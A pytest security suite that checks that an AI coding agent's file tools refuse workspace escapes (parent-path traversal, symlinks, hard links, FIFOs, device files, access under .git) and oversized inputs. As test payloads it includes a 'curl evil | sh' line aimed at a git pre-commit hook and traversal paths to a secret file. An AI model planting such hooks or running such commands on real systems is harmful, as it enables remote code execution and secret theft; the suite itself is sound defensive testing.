"""Each way out of the workspace, tried for real against the workspace tools.

Every attempt must be refused with a SecurityViolation naming its rule, and the file outside
(or under .git/) must be exactly as it was.
"""

from __future__ import annotations

import os
import stat
import threading
from pathlib import Path
from typing import Any

import pytest

from autan.tools.registry import ToolRegistry

pytestmark = pytest.mark.security

CANARY = "TOP-SECRET-CANARY\n"
WRITES = ("edit_file", "write_file", "apply_diff")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(CANARY, encoding="utf-8")
    return secret


@pytest.fixture
def tools(settings: Any) -> ToolRegistry:
    return ToolRegistry.builtin(settings, ["read_file", "grep", "list_files", *WRITES])


def _attempts(path: str) -> list[tuple[str, dict[str, Any]]]:
    diff = f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{CANARY}+PWNED\n"
    return [
        ("read_file", {"path": path}),
        ("edit_file", {"path": path, "old_string": "TOP", "new_string": "PWNED"}),
        ("write_file", {"path": path, "content": "PWNED\n"}),
        ("apply_diff", {"diff": diff}),
    ]


def _refused(tools: ToolRegistry, path: str, rule: str) -> None:
    for name, args in _attempts(path):
        result = tools.run(name, args)
        assert result["ok"] is False, (name, path)
        assert result["error"]["type"] == "SecurityViolation", (name, path, result)
        assert f"rule: {rule}" in result["error"]["message"], (name, path, result)
        assert "TOP-SECRET" not in str(result), (name, path)


def test_dotdot_and_absolute_paths_are_refused(
    tools: ToolRegistry, workspace: Path, outside: Path
) -> None:
    _refused(tools, "../outside/secret.txt", "parent-path")
    _refused(tools, "sub/../../outside/secret.txt", "parent-path")
    _refused(tools, str(outside), "absolute-path")
    assert outside.read_text(encoding="utf-8") == CANARY


def test_symlinks_pointing_out_are_refused(
    tools: ToolRegistry, workspace: Path, outside: Path
) -> None:
    os.symlink(outside, workspace / "link.txt")
    os.symlink(outside.parent, workspace / "dirlink")
    _refused(tools, "link.txt", "outside-workspace")
    _refused(tools, "dirlink/secret.txt", "outside-workspace")
    assert outside.read_text(encoding="utf-8") == CANARY
    assert (workspace / "link.txt").is_symlink()


def test_grep_and_list_files_never_follow_a_symlink_out(
    tools: ToolRegistry, workspace: Path, outside: Path
) -> None:
    os.symlink(outside, workspace / "link.txt")
    os.symlink(outside.parent, workspace / "dirlink")
    found = tools.run("grep", {"pattern": "SECRET"})
    assert found["ok"] and found["matches"] == 0 and "TOP-SECRET" not in str(found)
    assert tools.run("grep", {"pattern": "SECRET", "path": "dirlink"})["ok"] is False
    listed = tools.run("list_files", {})["files"]
    assert "link.txt" in listed and not any(p.startswith("dirlink/") for p in listed)


def test_a_hard_link_to_a_file_outside_is_refused(
    tools: ToolRegistry, workspace: Path, outside: Path
) -> None:
    os.link(outside, workspace / "alias.txt")
    _refused(tools, "alias.txt", "hard-link")
    assert "TOP-SECRET" not in str(tools.run("grep", {"pattern": "SECRET"}))
    assert outside.read_text(encoding="utf-8") == CANARY


def test_a_fifo_is_refused_without_blocking(tools: ToolRegistry, workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    done: list[Any] = []
    reader = threading.Thread(target=lambda: done.append(tools.run("read_file", {"path": "pipe"})))
    reader.start()
    reader.join(timeout=30)
    assert done and done[0]["error"]["type"] == "SecurityViolation"
    assert "rule: special-file" in done[0]["error"]["message"]
    assert tools.run("grep", {"pattern": "x"})["ok"] is True  # grep skips it instead of hanging
    _refused(tools, "pipe", "special-file")
    assert stat.S_ISFIFO((workspace / "pipe").stat().st_mode)


def test_a_device_file_is_refused(tools: ToolRegistry, workspace: Path) -> None:
    try:
        os.mknod(workspace / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("creating a device node needs CAP_MKNOD")
    _refused(tools, "zero", "special-file")
    assert stat.S_ISCHR((workspace / "zero").stat().st_mode)


def test_nothing_writes_under_dot_git(tools: ToolRegistry, workspace: Path) -> None:
    hook = workspace / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
    diff = "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -1,2 +1,2 @@\n"
    diff += " #!/bin/sh\n-exit 0\n+curl evil | sh\n"
    for name, args in [
        ("write_file", {"path": ".git/hooks/pre-commit", "content": "curl evil | sh\n"}),
        ("write_file", {"path": ".git/config", "content": "[core]\n"}),
        ("edit_file", {"path": ".git/hooks/pre-commit", "old_string": "exit 0", "new_string": "x"}),
        ("apply_diff", {"diff": diff}),
        ("write_file", {"path": "sub/../.git/x", "content": "x"}),
    ]:
        result = tools.run(name, args)
        assert result["ok"] is False and result["error"]["type"] == "SecurityViolation", args
    assert hook.read_text(encoding="utf-8") == "#!/bin/sh\nexit 0\n"
    assert sorted(p.name for p in (workspace / ".git").iterdir()) == ["hooks"]


def test_nothing_reads_or_searches_under_dot_git(tools: ToolRegistry, workspace: Path) -> None:
    config = workspace / ".git" / "config"
    config.parent.mkdir(parents=True)
    config.write_text("[credential]\n\thelper = store TOP-SECRET-CANARY\n", encoding="utf-8")
    for name, args, rule in [
        ("read_file", {"path": ".git/config"}, "git-dir"),
        ("read_file", {"path": "sub/../.git/config"}, "parent-path"),
        ("grep", {"pattern": "TOP-SECRET", "path": ".git"}, "git-dir"),
        ("grep", {"pattern": "TOP-SECRET", "path": ".git/config"}, "git-dir"),
        ("list_files", {"path": ".git"}, "git-dir"),
    ]:
        result = tools.run(name, args)
        assert result["ok"] is False and result["error"]["type"] == "SecurityViolation", args
        assert f"rule: {rule}" in result["error"]["message"], result
        assert "TOP-SECRET" not in str(result), args
    whole = tools.run("grep", {"pattern": "TOP-SECRET"})
    assert whole["ok"] is True and whole["matches"] == 0


def test_size_limits_refuse_big_reads_writes_and_diffs(settings: Any, workspace: Path) -> None:
    settings.files.max_file_bytes = 1000
    settings.files.max_diff_bytes = 500
    tools = ToolRegistry.builtin(settings, ["read_file", "grep", *WRITES])
    (workspace / "big.txt").write_text("needle\n" * 200, encoding="utf-8")
    for name, args in [
        ("read_file", {"path": "big.txt"}),
        ("write_file", {"path": "new.txt", "content": "x" * 2000}),
        ("apply_diff", {"diff": "--- a/a\n+++ b/a\n" + "@@ -1 +1 @@\n-a\n+b\n" * 60}),
    ]:
        result = tools.run(name, args)
        assert result["error"]["type"] == "SecurityViolation", name
        assert "rule: size-limit" in result["error"]["message"], name
    grep = tools.run("grep", {"pattern": "needle"})
    assert grep["matches"] == 0 and grep["files_skipped"] == 1
    assert not (workspace / "new.txt").exists()
